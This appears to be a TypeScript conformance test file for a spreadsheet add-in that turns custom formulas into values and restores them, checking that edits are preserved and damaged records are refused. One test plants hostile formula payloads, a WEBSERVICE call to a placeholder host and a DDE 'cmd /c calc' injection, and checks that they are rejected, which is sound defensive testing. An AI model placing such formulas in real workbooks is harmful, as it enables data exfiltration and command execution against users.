/**
 * What every adapter must show of freezing and restoring: nothing is lost, nothing a person entered is overwritten, and
 * whatever stays is listed with its reason. A part of the conformance suite. May not use anything but the port.
 */
import { freezeNote } from "../../src/freezing/note";
import { FROZEN_NAMESPACE } from "../../src/freezing/recordXml";
import type { FreezeLeft, Host } from "../../src/host/port";
import type { HostUnderTest } from "./conformance";

const prefixes = ["FAKE."] as const;
const query = { scope: { kind: "book" }, prefixes } as const;
const book = { kind: "book" } as const;
const note = freezeNote({ when: "2026-02-01", version: "1.2.3" });

const reasons = (left: readonly FreezeLeft[]): string[][] => left.map(({ address, reason }) => [address, reason]).sort();
const formulasOf = async (host: Host): Promise<string[][]> =>
  [...(await host.formulas(query))].map(({ address, formula, spill }) => [address, formula, spill ?? ""]).sort();

export function describeFreezing(current: () => HostUnderTest): void {
  describe("freezing", () => {
    let host: Host;
    beforeEach(async () => {
      host = current().host;
      await host.write("Sheet1!A1", [[10], [20], [30]]);
      await host.writeFormulas("Sheet1!B1", [["=FAKE.COST(A1,2.5)"], ["=FAKE.COST(A2,2.5)"], ["=FAKE.NONE()"]]);
      await host.writeFormulas("Sheet1!C1", [["=B1+1"]]);
      await host.writeFormulas("Sheet1!D1", [["=FAKE.CODES()"]]);
    });

    test("frozen twice and restored once, every formula is there once, and the record is gone", async () => {
      const [before, formulas] = [await host.read("Sheet1!A1:F3"), await formulasOf(host)];
      await host.freeze(query);
      await host.writeFormulas("Sheet1!B1", [["=FAKE.COST(A1,3)"]]);
      expect((await host.freeze(query)).cells).toBe(1);
      expect(await host.frozen()).toEqual({ cells: 4, interrupted: false, damaged: false });
      expect(await host.restore(book)).toMatchObject({ outcome: "done", cells: 4, left: [] });
      expect(await formulasOf(host)).toEqual(
        formulas.map(([at, formula, spill]) => (at === "Sheet1!B1" ? [at, "=FAKE.COST(A1,3)", spill] : [at, formula, spill])),
      );
      await host.recalculate();
      expect(await host.read("Sheet1!D1:F3")).toEqual(before.map((row) => row.slice(3)));
      expect(await host.parts.get(FROZEN_NAMESPACE)).toBeNull();
    });
    test("formulas of others stay formulas and keep their values", async () => {
      const before = await host.read("Sheet1!C1");
      await host.freeze(query);
      expect(await host.cells("Sheet1!C1")).toMatchObject({ values: before, formulas: [["=B1+1"]] });
    });
    test("an error stays an error, for formulas that read it too", async () => {
      await host.freeze(query);
      await host.writeFormulas("Sheet1!C3", [["=ISTEXT(B1)"]]);
      expect(await host.read("Sheet1!B3:C3")).toEqual([["#N/A", false]]);
    });
    test("one selected cell of a block freezes the whole block, and only it", async () => {
      await current().select("Sheet1!E2");
      expect(await host.freeze({ scope: { kind: "selection" }, prefixes })).toMatchObject({ cells: 1, addresses: ["Sheet1!D1"] });
      expect((await formulasOf(host)).map(([at]) => at)).toEqual(["Sheet1!B1", "Sheet1!B2", "Sheet1!B3"]);
      expect(await host.restore({ kind: "selection" })).toMatchObject({ cells: 1 });
      await host.recalculate();
      expect(await formulasOf(host)).toContainEqual(["Sheet1!D1", "=FAKE.CODES()", "Sheet1!D1:F3"]);
    });
    test("a value that somebody typed into a frozen block keeps the block as it is", async () => {
      await host.freeze(query);
      await host.write("Sheet1!E2", [["checked"]]);
      const result = await host.restore(book);
      expect([result.cells, reasons(result.left)]).toEqual([3, [["Sheet1!D1", "changed"]]]);
      expect(await host.read("Sheet1!D1:F2")).toEqual([
        ["25070080", "Kaolin", 10],
        ["01", "checked", 20],
      ]);
      await host.write("Sheet1!E2", [["TRUE"]]);
      expect(await host.restore(book)).toMatchObject({ cells: 1, left: [] });
    });
    test("a formula that somebody entered since is not replaced", async () => {
      await host.freeze(query);
      await host.writeFormulas("Sheet1!B1", [["=1+24"]]);
      const result = await host.restore(book);
      expect([result.cells, reasons(result.left)]).toEqual([3, [["Sheet1!B1", "otherFormula"]]]);
      expect(await host.cells("Sheet1!B1")).toMatchObject({ formulas: [["=1+24"]] });
    });
    test("a sheet tells of it in text and goes when all formulas are back", async () => {
      await host.writeFormulas("Sheet1!C2", [['=FAKE.COST(A1,1)&"=1+1"']]);
      const result = await host.freeze(query, { note });
      expect(result.note).toBe("Formulas as values");
      const lines = await host.cells("'Formulas as values'!A1:C14");
      expect(lines.values.map(([first]) => first)).toEqual(
        expect.arrayContaining([
          "Formulas turned into values",
          "Turned into values: 2026-02-01",
          "Add-in version: 1.2.3",
          "Formulas turned into values: 5",
        ]),
      );
      expect(lines.values.map((line) => line[2])).toEqual(expect.arrayContaining(["=FAKE.COST(A1,2.5)", "=FAKE.CODES()"]));
      expect(lines.formulas.flat().every((formula) => formula === "")).toBe(true);
      expect(await host.sheets()).toEqual(["Sheet1", "Formulas as values"]);
      expect(await host.restore(book, { note })).toMatchObject({ cells: 5, note: null });
      expect(await host.sheets()).toEqual(["Sheet1"]);
    });
    test("frozen again, the same sheet tells of all; restored in part, of the rest; written on, it stays", async () => {
      await current().select("Sheet1!B1");
      await host.freeze({ scope: { kind: "selection" }, prefixes }, { note });
      await host.freeze(query, { note });
      expect(await host.sheets()).toEqual(["Sheet1", "Formulas as values"]);
      expect((await host.read("'Formulas as values'!A5"))[0]).toEqual(["Formulas turned into values: 4"]);
      await current().select("Sheet1!B2");
      await host.restore({ kind: "selection" }, { note });
      expect((await host.read("'Formulas as values'!A5"))[0]).toEqual(["Formulas turned into values: 3"]);
      await host.write("'Formulas as values'!E1", [["my remark"]]);
      await host.restore(book, { note });
      expect(await host.read("'Formulas as values'!E1")).toEqual([["my remark"]]);
      expect(await host.frozen()).toMatchObject({ cells: 0 });
    });
    test("rows inserted above are followed where the formula reads its own row", async () => {
      // Three rows move by two: what a spreadsheet does when rows are inserted above.
      const masses = [[12.5], [17.25], [19.75]];
      await host.ensureSheet("Moved");
      await host.write("Moved!A1", masses);
      await host.writeFormulas("Moved!B1", [["=FAKE.COST(A1,3)"], ["=FAKE.COST(A2,3)"], ["=FAKE.COST(A3,3)+A1*0"]]);
      await host.freeze({ scope: { kind: "sheet", sheet: "Moved" }, prefixes });
      const values = await host.read("Moved!B1:B3");
      await host.write("Moved!A1", [[null, null], [null, null], ...masses.map(([mass = null], i) => [mass, values[i]?.[0] ?? null])]);
      const result = await host.restore({ kind: "sheet", sheet: "Moved" });
      expect(result.left).toEqual([]);
      expect((await host.cells("Moved!B3:B5")).formulas).toEqual([["=FAKE.COST(A3,3)"], ["=FAKE.COST(A4,3)"], ["=FAKE.COST(A5,3)+A3*0"]]);
      expect(await host.read("Moved!B1:B2")).toEqual([[null], [null]]);
    });
    test("moved values whose formula reads cells that may not have moved are named, not guessed", async () => {
      await host.ensureSheet("Moved");
      await host.write("Moved!A1", [[10], [20], [30]]);
      await host.writeFormulas("Moved!B2", [["=FAKE.COST(A2,3)+A1*0"], ["=FAKE.COST(A3,3)"], ["=FAKE.COST(7,3)"]]);
      await host.freeze({ scope: { kind: "sheet", sheet: "Moved" }, prefixes });
      await host.write("Moved!B2", [[null], [60], [90], [21]]);
      const result = await host.restore({ kind: "sheet", sheet: "Moved" });
      expect(result.left).toEqual([{ address: "Moved!B2", formula: "=FAKE.COST(A2,3)+A1*0", reason: "moved", detail: "Moved!B3" }]);
      expect(result.addresses).toEqual(["Moved!B4", "Moved!B5"]);
    });
    test("values that are gone, and a sheet that is gone, are named and nothing else is touched", async () => {
      await host.ensureSheet("Other");
      await host.writeFormulas("Other!A1", [["=FAKE.COST(3,4)"]]);
      await host.freeze(query);
      await host.parts.set(FROZEN_NAMESPACE, ((await host.parts.get(FROZEN_NAMESPACE)) ?? "").replace('sheet="Other"', 'sheet="Away"'));
      await host.write("Sheet1!B2", [[null]]);
      const result = await host.restore(book);
      expect(reasons(result.left)).toEqual([
        ["Away!A1", "sheetGone"],
        ["Sheet1!B2", "changed"],
      ]);
      expect(await host.read("Other!A1")).toEqual([[12]]);
      expect(await host.frozen()).toMatchObject({ cells: 2 });
    });
    test("a cancelled freeze and a cancelled restore leave everything as it was", async () => {
      // Six blocks of a thousand rows are more than one request takes.
      await host.write("Sheet1!H1100", [[1]]);
      for (const column of ["H", "J", "L", "N", "P", "R"]) await host.writeFormulas(`Sheet1!${column}1`, [["=FAKE.ROWS(1000)"]]);
      const before = await formulasOf(host);
      const cancel = (): { signal: AbortSignal; onProgress: (progress: { done: number }) => void } => {
        const stop = new AbortController();
        return { signal: stop.signal, onProgress: ({ done }) => done > 0 && stop.abort() };
      };
      expect(await host.freeze(query, cancel())).toMatchObject({ outcome: "cancelled", cells: 0 });
      expect(await formulasOf(host)).toEqual(before);
      expect(await host.frozen()).toMatchObject({ cells: 0, interrupted: false });
      await host.freeze(query);
      const frozen = await host.read("Sheet1!A1:S1000");
      expect(await host.restore(book, cancel())).toMatchObject({ outcome: "cancelled", cells: 0 });
      expect(await host.read("Sheet1!A1:S1000")).toEqual(frozen);
      expect(await formulasOf(host)).toEqual([]);
      expect(await host.frozen()).toMatchObject({ cells: 10 });
    });
    test("a damaged record is said to be damaged, and nothing is written", async () => {
      await host.parts.set(
        FROZEN_NAMESPACE,
        `<frozenFormulas xmlns="${FROZEN_NAMESPACE}"><formula sheet="Sheet1" area="ZZZZ1" kind="plain" readable="=1"/></frozenFormulas>`,
      );
      const before = await formulasOf(host);
      expect(await host.frozen()).toEqual({ cells: 0, interrupted: false, damaged: true });
      expect(await host.freeze(query)).toMatchObject({ outcome: "refused", refusal: "damagedRecord" });
      expect(await host.restore(book)).toMatchObject({ outcome: "refused", refusal: "damagedRecord" });
      expect(await formulasOf(host)).toEqual(before);
    });
    test("a record from a stranger enters nothing that reaches out or is not ours", async () => {
      const cell = (at: string, formula: string): string =>
        `<formula sheet="Sheet1" area="${at}" kind="plain" readable="${formula}" type="number" value="10"/>`;
      await host.parts.set(
        FROZEN_NAMESPACE,
        `<frozenFormulas xmlns="${FROZEN_NAMESPACE}">${cell("A1", "=WEBSERVICE(&quot;http://x/&quot;&amp;FAKE.COST(1,2))")}${cell("A1", "=1+9")}${cell("A1", "=FAKE.COST(cmd|' /c calc'!A0,1)")}</frozenFormulas>`,
      );
      const result = await host.restore(book, { prefixes });
      expect([result.cells, result.left.map(({ reason }) => reason)]).toEqual([0, ["unsafe", "unsafe", "unsafe"]]);
      expect(await host.cells("Sheet1!A1")).toEqual({ values: [[10]], formulas: [[""]] });
    });
    test("nothing frozen is said so", async () => {
      expect(await host.restore(book)).toMatchObject({ outcome: "refused", refusal: "nothingFrozen", cells: 0 });
    });
  });
}
